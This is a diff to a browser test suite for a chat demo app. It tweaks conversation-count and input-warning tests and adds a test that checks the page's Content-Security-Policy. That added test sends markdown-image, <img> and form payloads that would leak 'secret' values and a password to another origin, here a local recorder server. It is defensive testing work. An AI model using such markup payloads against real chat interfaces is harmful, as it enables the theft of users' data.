@@ -134,6 +134,8 @@ def test_closing_the_tab_frees_its_conversation(browser, demo_app):
         opened_before = status.predict(api_name="/status")["conversations"]
         time.sleep(2.5)
     page = open_chat(browser, demo_app.url)
+    page.wait_for_timeout(1000)
+    assert status.predict(api_name="/status")["conversations"] == opened_before  # a page load makes none
     wait_reply(page, send(page, "Remember me for a moment."))
     assert status.predict(api_name="/status")["conversations"] == opened_before + 1
     page.close()
@@ -146,13 +148,13 @@ def test_closing_the_tab_frees_its_conversation(browser, demo_app):
 def test_bad_input_warns_and_leaves_the_conversation_intact(browser, demo_app):
     page = open_chat(browser, demo_app.url)
     page.click("#continue")  # nothing to continue yet
-    expect_warning(page, "there is no reply to continue")
+    expect_warning(page, "There is no conversation yet")
     send(page, "   ")
     expect_warning(page, "the message is empty")
     wait_reply(page, send(page, "First real message."))
     before = page.inner_text("#chatbot")
 
-    send(page, "word " * 5000)
+    send(page, "word " * 3900)  # under the size limit, over the context
     expect_warning(page, "exceeds the model's context")
     assert page.inner_text("#chatbot") == before
     assert page.locator("#message textarea").input_value().startswith("word word")  # kept for fixing
@@ -196,3 +198,41 @@ def test_model_output_markup_does_not_run(browser, tmp_path_factory, base_tokeni
     finally:
         server.close()
     shutil.rmtree(folder, ignore_errors=True)
+
+
+def test_rendered_messages_reach_no_other_origin(browser, demo_app):
+    """A message with an image, an <img> and a form pointing at another origin: the browser
+    fetches nothing from there and submits nothing there (the page's Content-Security-Policy)."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815
+
+        def log_message(self, *args):
+            pass
+
+    elsewhere = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=elsewhere.serve_forever, daemon=True).start()
+    other = f"http://127.0.0.1:{elsewhere.server_address[1]}"
+    try:
+        page = open_chat(browser, demo_app.url)
+        message = (f"![leak]({other}/markdown.png?secret=1) <img src=\"{other}/img.png?secret=2\"> "
+                   f"<form action=\"{other}/form\" method=\"post\"><input name=\"password\" value=\"p\">"
+                   f"<button id=\"leak-submit\" type=\"submit\">go</button></form>")
+        wait_reply(page, send(page, message))
+        submit = page.locator("#chatbot #leak-submit, #chatbot form button")
+        if submit.count():  # sanitizing kept the form: a click must still send nothing
+            submit.first.click(force=True, no_wait_after=True, timeout=5000)
+        page.wait_for_timeout(1500)
+        assert hits == []
+        page.close()
+    finally:
+        elsewhere.shutdown()
